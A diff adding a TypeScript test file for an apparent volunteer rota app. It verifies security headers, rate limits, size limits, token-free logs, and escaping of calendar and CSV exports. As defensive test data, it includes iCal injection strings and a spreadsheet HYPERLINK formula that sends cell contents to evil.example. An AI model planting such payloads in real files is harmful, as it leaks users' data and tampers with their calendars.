@@ -1,0 +1,312 @@
+// Hardening: security headers and a content security policy the page lives with, rate limits
+// counted per token, request size limits, tokens kept out of the log, and spreadsheet cells that
+// cannot run as formulas.
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Writable } from 'node:stream';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { loadConfig } from '../../src/config.js';
+import { openDb } from '../../src/db/connection.js';
+import { buildApp, type App } from '../../src/http/app.js';
+import { ensureCoordinator } from '../../src/services/people.js';
+import { makeApp, type TestApp } from '../helpers/app.js';
+import { parseWithIcalJs } from '../helpers/ical.js';
+
+const COORDINATOR = 'coordinator-token-for-hardening-01';
+
+/** A real app on a real file with its own settings and a log that the test can read. */
+async function appWith(settings: { rateLimitPerMinute?: number; logLevel?: string }): Promise<{ app: App; log: string[]; close(): Promise<void> }> {
+  const dir = mkdtempSync(join(tmpdir(), 'rota-hardening-'));
+  const file = join(dir, 'rota.sqlite');
+  const now = new Date('2026-11-27T02:00:00Z');
+  const config = loadConfig({ dbPath: file, publicUrl: 'https://rota.example.org', now: () => now, ...settings }, {});
+  const db = openDb(file);
+  ensureCoordinator(db, COORDINATOR, now);
+  const log: string[] = [];
+  const stream = new Writable({
+    write(chunk: Buffer, _encoding, done) {
+      log.push(chunk.toString());
+      done();
+    },
+  });
+  const app = await buildApp({ config, db, ...(settings.logLevel ? { logger: { level: settings.logLevel, stream } } : { logger: false }) });
+  return {
+    app,
+    log,
+    async close() {
+      await app.close();
+      db.$client.close();
+      rmSync(dir, { recursive: true, force: true });
+    },
+  };
+}
+
+const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
+
+describe('the page under its content security policy', () => {
+  let t: TestApp;
+  beforeAll(async () => {
+    t = await makeApp('2026-11-27T02:00:00Z');
+  });
+  afterAll(() => t.close());
+
+  it.each(['/', '/me', '/desk'])('serves %s with a policy that allows only its own scripts, and no framing or sniffing', async (path) => {
+    const res = await t.call('GET', path, { token: null });
+    expect(res.status).toBe(200);
+    const csp = String(res.headers['content-security-policy']);
+    expect(csp).toContain("default-src 'self'");
+    expect(csp).toContain("script-src 'self'");
+    expect(csp).toContain("object-src 'none'");
+    expect(csp).toContain("frame-ancestors 'none'");
+    expect(csp).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
+    expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
+    // The personal link carries its token in the fragment; no page hands its address to others.
+    expect(res.headers['referrer-policy']).toBe('no-referrer');
+  });
+
+  it.each(['/', '/me', '/desk'])('keeps %s working under that policy: no inline scripts or handlers, every script served as JavaScript', async (path) => {
+    const html = (await t.call('GET', path, { token: null })).text;
+    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
+    expect(scripts.length).toBeGreaterThan(0);
+    for (const [, attributes, body] of scripts) {
+      expect(body!.trim(), `inline script in ${path}`).toBe('');
+      const src = /\bsrc="([^"]+)"/.exec(attributes!)?.[1];
+      expect(src, `script without src in ${path}`).toBeDefined();
+      expect(src!.startsWith('/'), `${src} is not served by Rota itself`).toBe(true);
+      const res = await t.call('GET', src!, { token: null });
+      expect(res.status, src).toBe(200);
+      expect(String(res.headers['content-type']), src).toMatch(/javascript/);
+    }
+    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
+    expect(html).not.toMatch(/javascript:/i);
+  });
+});
+
+describe('rate limits', () => {
+  let a: Awaited<ReturnType<typeof appWith>>;
+  beforeAll(async () => {
+    a = await appWith({ rateLimitPerMinute: 5 });
+  });
+  afterAll(() => a.close());
+
+  it('count requests per token, not per address: one busy token does not slow another on the same address', async () => {
+    const made = await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Second captain' } });
+    expect(made.statusCode).toBe(201);
+    const volunteer = made.json().accessToken as string;
+    const statuses: number[] = [];
+    for (let i = 0; i < 6; i++) statuses.push((await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(volunteer) })).statusCode);
+    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
+    const limited = await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(volunteer) });
+    expect(limited.statusCode).toBe(429);
+    expect(limited.json().error.code).toBe('RATE_LIMITED');
+    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
+    // Same address, different token (the coordinator used one request above): still served.
+    expect((await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(COORDINATOR) })).statusCode).toBe(200);
+  });
+
+  it('count each calendar feed by its own feed token', async () => {
+    const feedOf = async (name: string) => {
+      const made = await a.app.inject({ method: 'POST', url: '/api/v1/teams', headers: bearer(COORDINATOR), payload: { name } });
+      return new URL(made.json().feedUrl as string).pathname;
+    };
+    const [busy, quiet] = [await feedOf('Building 7'), await feedOf('Building 8')];
+    const statuses: number[] = [];
+    for (let i = 0; i < 6; i++) statuses.push((await a.app.inject({ method: 'GET', url: busy })).statusCode);
+    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
+    expect((await a.app.inject({ method: 'GET', url: quiet })).statusCode).toBe(200);
+  });
+
+  it('leave requests without a token alone, such as the health check and the page', async () => {
+    for (let i = 0; i < 12; i++) {
+      expect((await a.app.inject({ method: 'GET', url: '/api/v1/health' })).statusCode).toBe(200);
+      expect((await a.app.inject({ method: 'GET', url: '/' })).statusCode).toBe(200);
+    }
+  });
+
+  it('are generous by default and can be set or turned off by ROTA_RATE_LIMIT', () => {
+    expect(loadConfig({}, {}).rateLimitPerMinute).toBe(3000);
+    expect(loadConfig({}, { ROTA_RATE_LIMIT: '120' }).rateLimitPerMinute).toBe(120);
+    expect(loadConfig({}, { ROTA_RATE_LIMIT: '0' }).rateLimitPerMinute).toBe(0);
+    expect(() => loadConfig({}, { ROTA_RATE_LIMIT: 'lots' })).toThrow(/ROTA_RATE_LIMIT/);
+  });
+});
+
+describe('request size limits', () => {
+  let t: TestApp;
+  beforeAll(async () => {
+    t = await makeApp('2026-11-27T02:00:00Z');
+  });
+  afterAll(() => t.close());
+
+  it('refuse a JSON body over 1 MiB with 413 and store nothing', async () => {
+    const before = (await t.call('GET', '/api/v1/people')).body.people.length;
+    const res = await t.call('POST', '/api/v1/people', { body: JSON.stringify({ name: 'Big', phone: 'x'.repeat(1024 * 1024) }), headers: { 'content-type': 'application/json' } });
+    expect(res.status).toBe(413);
+    expect(res.body.error.code).toBe('BODY_TOO_LARGE');
+    expect((await t.call('GET', '/api/v1/people')).body.people.length).toBe(before);
+  });
+
+  it('let a calendar import be larger (up to 5 MiB), but not without limit', async () => {
+    const calendar = (await t.call('POST', '/api/v1/day-calendars', { body: { name: 'School breaks' } })).body;
+    // A few all-day events with long descriptions: the size is what matters here, not the count.
+    const ics = (bytes: number) => {
+      const note = `寒假 winter break; ${'x'.repeat(70)}`.repeat(2000);
+      let body = 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//school//EN\r\n';
+      for (let day = 1; Buffer.byteLength(body) < bytes; day++) {
+        body += `BEGIN:VEVENT\r\nUID:break-${day}@school.example\r\nDTSTAMP:20261101T000000Z\r\nDTSTART;VALUE=DATE:202701${String(day).padStart(2, '0')}\r\nSUMMARY:Winter break\r\nDESCRIPTION:${note}\r\nEND:VEVENT\r\n`;
+      }
+      return `${body}END:VCALENDAR\r\n`;
+    };
+    const headers = { 'content-type': 'text/calendar' };
+    const fine = await t.call('POST', `/api/v1/day-calendars/${calendar.id}/import`, { body: ics(2 * 1024 * 1024), headers });
+    expect(fine.status).toBe(201);
+    const tooBig = await t.call('POST', `/api/v1/day-calendars/${calendar.id}/import`, { body: ics(6 * 1024 * 1024), headers });
+    expect(tooBig.status).toBe(413);
+  });
+});
+
+describe('the request log', () => {
+  let a: Awaited<ReturnType<typeof appWith>>;
+  beforeAll(async () => {
+    a = await appWith({ logLevel: 'trace' });
+  });
+  afterAll(() => a.close());
+
+  it('never contains an access token or a feed token, whichever way a request carried it', async () => {
+    const secrets = [COORDINATOR];
+    const call = async (method: 'GET' | 'POST' | 'PATCH', url: string, token: string | null, payload?: object) => {
+      const res = await a.app.inject({ method, url, headers: token ? bearer(token) : {}, ...(payload ? { payload } : {}) });
+      return res;
+    };
+    const person = (await call('POST', '/api/v1/people', COORDINATOR, { name: 'Captain Li' })).json();
+    const token = person.accessToken as string;
+    const feed = /\/feeds\/people\/([^/]+)\.ics$/.exec(person.feedUrl)![1]!;
+    secrets.push(token, feed);
+    const rota = (await call('POST', '/api/v1/rotas', COORDINATOR, { name: 'East gate', timezone: 'Asia/Shanghai' })).json();
+    secrets.push(/\/feeds\/rotas\/([^/]+)\.ics$/.exec(rota.feedUrl)![1]!);
+    const team = (await call('POST', '/api/v1/teams', COORDINATOR, { name: 'Building 3', memberIds: [person.id] })).json();
+    secrets.push(/\/feeds\/teams\/([^/]+)\.ics$/.exec(team.feedUrl)![1]!);
+
+    await call('GET', '/api/v1/me', token);
+    await call('PATCH', `/api/v1/people/${person.id}`, token, { phone: '13800000000' });
+    // Tokens in feed paths, in the query string by mistake, and tokens that are wrong or rotated.
+    for (const kind of ['people', 'rotas', 'teams']) {
+      for (const s of secrets) await call('GET', `/feeds/${kind}/${s}.ics?token=${s}`, null);
+    }
+    const rotated = (await call('POST', `/api/v1/people/${person.id}/tokens`, token, { kind: 'access' })).json().token as string;
+    const rotatedFeed = (await call('POST', `/api/v1/people/${person.id}/tokens`, rotated, { kind: 'feed' })).json().token as string;
+    secrets.push(rotated, rotatedFeed);
+    const wrong = 'not-a-real-token-0123456789abcdef';
+    secrets.push(wrong);
+    expect((await call('GET', '/api/v1/me', wrong)).statusCode).toBe(401);
+    expect((await call('GET', '/api/v1/me', token)).statusCode).toBe(401);
+    await call('GET', `/api/v1/me?access_token=${rotated}`, null);
+
+    const log = a.log.join('');
+    expect(log.length).toBeGreaterThan(1000);
+    for (const s of secrets) expect(log.includes(s) ? log.slice(Math.max(0, log.indexOf(s) - 300), log.indexOf(s) + 100) : null).toBeNull();
+  });
+});
+
+describe('calendar feeds', () => {
+  let t: TestApp;
+  beforeAll(async () => {
+    t = await makeApp('2026-11-27T02:00:00Z');
+  });
+  afterAll(() => t.close());
+
+  it('carry line breaks in names and notes as text, so nobody can add events or properties to a feed', async () => {
+    const inject = 'line one\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:injected@evil.example\r\nSUMMARY:Injected\r\nATTENDEE:mailto:evil@example.org';
+    const rota = (await t.call('POST', '/api/v1/rotas', { body: { name: `East gate${inject}`.slice(0, 200), timezone: 'Asia/Shanghai', location: `Gate 2\nX-INJECTED:yes`, description: inject } })).body;
+    const series = (
+      await t.call('POST', `/api/v1/rotas/${rota.id}/series`, {
+        body: { rrule: 'FREQ=DAILY', startDate: '2026-12-01', startTime: '07:15', durationMinutes: 45, minVolunteers: 1, maxVolunteers: 3, label: `Mornings\nSTATUS:CANCELLED` },
+      })
+    ).body;
+    const me = (await t.call('POST', '/api/v1/people', { body: { name: 'Li Wei' } })).body;
+    const other = (await t.call('POST', '/api/v1/people', { body: { name: `Zhang\r\nBEGIN:VALARM\r\nACTION:DISPLAY` } })).body;
+    for (const p of [me, other]) {
+      expect((await t.call('POST', `/api/v1/shifts/${series.id}.20261203T0715/signups`, { body: { personId: p.id } })).status).toBe(201);
+    }
+    for (const feedUrl of [me.feedUrl, rota.feedUrl]) {
+      const res = await t.call('GET', new URL(feedUrl as string).pathname, { token: null });
+      expect(res.status).toBe(200);
+      // Unfolded content lines: only the feed's own components and properties start a line.
+      const lines = res.text.replace(/\r\n[ \t]/g, '').split('\r\n');
+      expect(lines.filter((l) => l === 'BEGIN:VEVENT').length).toBe(lines.filter((l) => l.startsWith('UID:')).length);
+      expect(lines.some((l) => /^(ATTENDEE|X-INJECTED|BEGIN:VALARM|ACTION|UID:injected|SUMMARY:Injected|STATUS:CANCELLED)/.test(l))).toBe(false);
+      const parsed = parseWithIcalJs(res.text);
+      const event = parsed.events.find((e) => e.start.local === '2026-12-03T07:15:00')!;
+      expect(event.status).not.toBe('CANCELLED');
+      expect(parsed.events.some((e) => e.uid.startsWith('injected'))).toBe(false);
+      // The words are still there, as text.
+      expect(`${event.summary}\n${event.description}\n${event.location}`).toContain('X-INJECTED:yes');
+      expect(event.description).toContain('BEGIN:VALARM');
+    }
+  });
+});
+
+describe('spreadsheet exports', () => {
+  let t: TestApp;
+  beforeAll(async () => {
+    t = await makeApp('2026-11-27T02:00:00Z');
+  });
+  afterAll(() => t.close());
+
+  it('write names that look like formulas as plain text, so a spreadsheet never runs them', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)', '-2+3', '@cmd'];
+    const rota = (await t.call('POST', '/api/v1/rotas', { body: { name: 'East gate', timezone: 'Asia/Shanghai' } })).body;
+    const series = (
+      await t.call('POST', `/api/v1/rotas/${rota.id}/series`, {
+        body: { rrule: 'FREQ=DAILY', startDate: '2026-11-01', startTime: '09:00', durationMinutes: 60, minVolunteers: 1, maxVolunteers: 10 },
+      })
+    ).body;
+    for (const name of names) {
+      const person = (await t.call('POST', '/api/v1/people', { body: { name } })).body;
+      // A coordinator enters last week's paper sheet: the sign-up counts once the shift has ended.
+      const signup = await t.call('POST', `/api/v1/shifts/${series.id}.20261120T0900/signups`, { body: { personId: person.id } });
+      expect(signup.status).toBe(201);
+    }
+    const res = await t.call('GET', '/api/v1/stats/person-shifts?groupBy=person&from=2026-11-01&to=2026-11-30&format=csv');
+    expect(res.status).toBe(200);
+    expect(String(res.headers['content-type'])).toMatch(/^text\/csv/);
+    const cells = parseCsv(res.text.replace(/^\uFEFF/, '')).map((row) => row[1]);
+    for (const name of names) {
+      expect(cells).toContain(`'${name}`);
+      expect(cells).not.toContain(name);
+    }
+    for (const cell of parseCsv(res.text.replace(/^\uFEFF/, '')).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
+
+/** RFC 4180: quoted fields may hold commas, quotes (doubled) and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
+  }
+  if (cell || row.length) rows.push([...row, cell]);
+  return rows;
+}
